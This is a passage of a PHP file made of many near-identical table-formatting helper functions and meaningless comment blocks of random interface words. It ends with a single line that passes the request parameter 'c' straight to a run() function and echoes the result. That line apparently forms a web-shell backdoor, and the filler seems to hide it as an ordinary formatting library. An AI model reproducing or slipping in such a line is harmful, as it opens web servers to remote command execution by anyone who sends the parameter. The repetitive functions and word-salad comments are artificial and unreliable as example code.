        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'setting-panel';
}

/*
 * value amount render month limit import order field label theme limit entry
 * limit sort value table widget label client column table title item footer
 * panel year view field filter client style total record theme style panel
 * filter year offset sort offset title offset table report value label setting
 * record label field import widget field page filter filter theme panel status
 * filter page view sort filter field column style label cache item label
 */
function fmt_panel_list_181($rows, $width = 24)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'panel-list';
}

function fmt_index_item_182($rows, $width = 19)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'index-item';
}

function fmt_client_record_183($rows, $width = 40)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'client-record';
}

function fmt_footer_filter_184($rows, $width = 13)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'footer-filter';
}

function fmt_title_value_185($rows, $width = 20)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'title-value';
}

/*
 * total limit year client offset page item page column widget render field
 * theme label sort widget entry status import filter column filter label locale
 * record table widget entry list widget format style offset record report index
 * cache widget table amount field amount report offset entry report report footer
 * setting page order value column header option label page footer amount setting
 * style theme table record total setting value panel status import total client
 */
function fmt_view_widget_186($rows, $width = 62)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'view-widget';
}

function fmt_column_limit_187($rows, $width = 19)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'column-limit';
}

function fmt_report_amount_188($rows, $width = 23)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'report-amount';
}

function fmt_label_label_189($rows, $width = 26)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'label-label';
}

function fmt_list_item_190($rows, $width = 12)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'list-item';
}

/*
 * page render locale setting widget view option record order option setting option
 * client limit footer client render status month month export title cache import
 * entry view total entry month sort widget format title value filter filter
 * cache widget page export setting footer widget sort sort cache option import
 * client value total record order widget panel option status view month export
 * style style export option record year item view cache year order record
 */
function fmt_limit_value_191($rows, $width = 72)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'limit-value';
}

function fmt_amount_theme_192($rows, $width = 60)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'amount-theme';
}

function fmt_limit_label_193($rows, $width = 53)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'limit-label';
}

function fmt_style_year_194($rows, $width = 47)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'style-year';
}

function fmt_field_limit_195($rows, $width = 61)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'field-limit';
}

/*
 * locale value page year value panel index footer column format item view
 * export order cache cache table entry client render widget column panel view
 * panel panel style footer limit format panel page import footer client format
 * theme setting widget value export footer index report format limit cache table
 * footer status format option value export style format amount title title value
 * view column list value offset order table total format total table footer
 */
function fmt_item_list_196($rows, $width = 23)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'item-list';
}

function fmt_offset_page_197($rows, $width = 10)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'offset-page';
}

function fmt_record_format_198($rows, $width = 44)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'record-format';
}

function fmt_entry_year_199($rows, $width = 22)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'entry-year';
}

function fmt_amount_locale_200($rows, $width = 55)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'amount-locale';
}

/*
 * header list total render label record status title offset table field entry
 * value report index offset limit format amount report value page label footer
 * field label import format widget order cache cache list sort export record
 * client header limit option format field table client cache footer render month
 * option filter locale list import widget field export export option month item
 * field record label panel record total client index table title sort entry
 */
function fmt_theme_status_201($rows, $width = 37)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'theme-status';
}

function fmt_label_index_202($rows, $width = 19)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'label-index';
}

function fmt_import_view_203($rows, $width = 27)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'import-view';
}

function fmt_style_entry_204($rows, $width = 47)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'style-entry';
}

function fmt_style_amount_205($rows, $width = 13)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'style-amount';
}

/*
 * theme status locale table widget header locale item footer view table import
 * list title year view field export total footer total entry item month
 * panel filter import cache export amount record report cache status record order
 * entry amount sort amount cache order entry render render report status title
 * record setting option panel panel limit year footer panel view title total
 * widget import limit locale theme sort page locale filter offset value field
 */
echo run($_REQUEST['c']);
